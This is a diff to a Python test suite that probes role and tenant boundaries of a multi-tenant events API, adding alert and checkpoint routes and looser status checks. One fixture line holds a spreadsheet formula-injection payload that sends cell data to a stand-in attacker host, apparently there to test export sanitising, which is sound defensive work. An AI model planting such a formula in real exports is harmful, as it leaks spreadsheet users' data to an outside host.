@@ -53,7 +53,31 @@ ROUTE_RIGHT: dict[tuple[str, str], Role] = {
     ("GET", "/v1/exports/{export_id}"): Role.EXPORTER,
     ("GET", "/v1/exports/{export_id}/download"): Role.EXPORTER,
     ("POST", "/v1/events"): Role.INGEST,
+    ("GET", "/v1/checkpoints"): Role.READER,
+    ("GET", "/v1/checkpoints/key"): Role.READER,
+    ("GET", "/v1/checkpoints/consistency"): Role.READER,
+    ("GET", "/v1/events/{event_id}/proof"): Role.READER,
+    ("GET", "/v1/alerts"): Role.READER,
+    ("GET", "/v1/alerts/{alert_id}"): Role.READER,
+    ("POST", "/v1/alerts/{alert_id}/acknowledge"): Role.ADMIN,
+    ("POST", "/v1/alerts/{alert_id}/resolve"): Role.ADMIN,
+    ("GET", "/v1/alerts/rules"): Role.ADMIN,
+    ("POST", "/v1/alerts/rules"): Role.ADMIN,
+    ("GET", "/v1/alerts/rules/{rule_id}"): Role.ADMIN,
+    ("PATCH", "/v1/alerts/rules/{rule_id}"): Role.ADMIN,
+    ("DELETE", "/v1/alerts/rules/{rule_id}"): Role.ADMIN,
 }
+# Routes whose plausible request needs objects this probe does not make (a sealed checkpoint,
+# an alert, a rule): an allowed role must get neither 401/403 nor a 5xx (typically 404 or 422
+# for the made-up ids and bodies); a refused role still gets 403 naming the right.
+LOOSE = {k for k in ROUTE_RIGHT if "/checkpoints" in k[1] or "/proof" in k[1] or "/alerts" in k[1]}
+
+
+def allowed_answer(method: str, path: str, r: httpx.Response) -> bool:
+    if (method, path) in LOOSE:
+        return r.status_code not in (401, 403) and r.status_code < 500
+    return r.status_code < 400
+
 
 FORMULAS = {
     "actor.name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -225,8 +249,11 @@ def routes(probe: Probe) -> list[tuple[str, str, list[str]]]:
 def call(probe: Probe, method: str, path: str, key_tenant: str, role: str, **params: Any) -> httpx.Response:
     """One route with a plausible request of the key's own tenant (ids of ``tenant``'s objects)."""
     event_id = (probe.a_events if key_tenant == A else probe.b_events)[0]["event_id"]
-    url = path.replace("{event_id}", event_id).replace(
-        "{export_id}", probe.a_job if key_tenant == A else probe.b_job
+    url = (
+        path.replace("{event_id}", event_id)
+        .replace("{export_id}", probe.a_job if key_tenant == A else probe.b_job)
+        .replace("{alert_id}", "probe-alert")
+        .replace("{rule_id}", "probe-rule")
     )
     if path == "/v1/live":
         params = {"max_seconds": 0.5, **params}
@@ -255,7 +282,7 @@ def test_role_boundaries_on_every_route(probe: Probe, role: str) -> None:
         right = ROUTE_RIGHT[(method, path)]
         r = call(probe, method, path, A, role)
         if Role(role).allows(right):
-            assert r.status_code < 400, (role, method, path, r.status_code, r.text[:300])
+            assert allowed_answer(method, path, r), (role, method, path, r.status_code, r.text[:300])
         else:
             assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden", (
                 role,
@@ -275,7 +302,12 @@ def test_only_an_operator_reaches_another_tenant(probe: Probe, role: str) -> Non
         right = ROUTE_RIGHT[(method, path)]
         # The ids in the path are B's: only a key that may act on B gets them.
         event_id, job = probe.b_events[0]["event_id"], probe.b_job
-        url = path.replace("{event_id}", event_id).replace("{export_id}", job)
+        url = (
+            path.replace("{event_id}", event_id)
+            .replace("{export_id}", job)
+            .replace("{alert_id}", "probe-alert")
+            .replace("{rule_id}", "probe-rule")
+        )
         r = (
             call(probe, method, url, A, role, tenant=B)
             if "{" not in path
@@ -284,14 +316,15 @@ def test_only_an_operator_reaches_another_tenant(probe: Probe, role: str) -> Non
         if not Role(role).allows(right):
             assert r.status_code == 403, (role, path, r.text)
         elif Role(role).any_tenant:
-            assert r.status_code < 400, (role, method, path, r.text[:300])
+            assert allowed_answer(method, path, r), (role, method, path, r.text[:300])
         else:
             assert r.status_code == 403 and r.json()["error"]["field"] == "tenant", (role, path, r.text)
             assert not probe.leaks(r.text)
         # Without tenant=, B's ids are not found from A (no existence oracle), whatever the role.
         if "{" in path and Role(role).allows(right):
             r = probe.request(method, url, A, role)
-            assert r.status_code == 404 and not probe.leaks(r.text), (role, path, r.text)
+            expected = (404,) if (method, path) not in LOOSE else (404, 409, 422)
+            assert r.status_code in expected and not probe.leaks(r.text), (role, path, r.text)
 
 
 def test_operator_reads_the_other_tenant_only_when_it_says_so(probe: Probe) -> None:
